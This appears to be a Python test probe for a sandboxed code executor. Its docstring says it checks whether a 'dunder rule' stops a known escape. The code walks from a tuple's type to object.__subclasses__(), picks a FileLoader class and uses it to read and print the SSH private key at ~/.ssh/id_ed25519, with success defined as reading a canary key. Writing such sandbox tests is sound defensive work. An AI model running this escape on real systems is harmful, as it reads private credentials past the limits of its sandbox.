"""Walk to all classes without the first dunder attributes.

Attempts:  type(()).mro(), which has none, then __subclasses__ (the kind of CVE-2025-9959).
Success:   a class is found by which the canary key is read.
Proof:     canary ssh
Runs:      executor
Executor:  dunder rule
Container: dunder rule
"""

top = type(()).mro()[-1]
for kind in top.__subclasses__():
    if "FileLoader" in str(kind):
        print(kind("x", "x").get_data(target["home"] + "/.ssh/id_ed25519"))
